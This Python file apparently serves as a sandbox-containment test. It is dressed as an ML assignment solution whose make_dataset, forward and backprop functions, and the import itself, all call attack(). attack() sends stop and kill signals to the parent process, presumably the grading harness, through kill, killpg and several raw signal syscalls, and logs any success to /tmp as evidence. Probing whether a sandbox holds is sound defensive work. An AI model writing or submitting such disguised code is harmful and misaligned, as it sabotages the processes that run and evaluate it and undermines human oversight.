"""Sends the parent every signal that ends or stops a process, by every call that sends one."""
import ctypes
import os
import signal


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE kill-parent:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-kill-parent", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


LIBC = ctypes.CDLL(None, use_errno=True)


def syscall(number, *args):
    """A system call without libc's wrapper: the result, or minus the error's number."""
    result = LIBC.syscall(ctypes.c_long(number), *(ctypes.c_void_p(a) if isinstance(a, int) else a for a in args))
    return -ctypes.get_errno() if result == -1 else result

NUMBERS = {"x86_64": (129, 297, 424, 434), "aarch64": (138, 240, 424, 434)}[os.uname().machine]


def attack():
    queue, thread_queue, by_pidfd, pidfd_open = NUMBERS
    parent = os.getppid()
    info = (ctypes.c_int * 32)(0, 0, -1)
    for number in (signal.SIGCONT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for name, send in (
            ("kill", lambda: os.kill(parent, number)),
            ("killpg", lambda: os.killpg(os.getpgid(parent), number)),
            ("rt_sigqueueinfo", lambda: syscall(queue, parent, number, info)),
            ("rt_tgsigqueueinfo", lambda: syscall(thread_queue, parent, parent, number, info)),
            ("pidfd_send_signal", lambda: syscall(by_pidfd, syscall(pidfd_open, parent, 0), number, None, 0)),
        ):
            try:
                if send() in (None, 0):
                    evidence(f"{name} {number} to {parent}")
            except OSError:
                continue


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
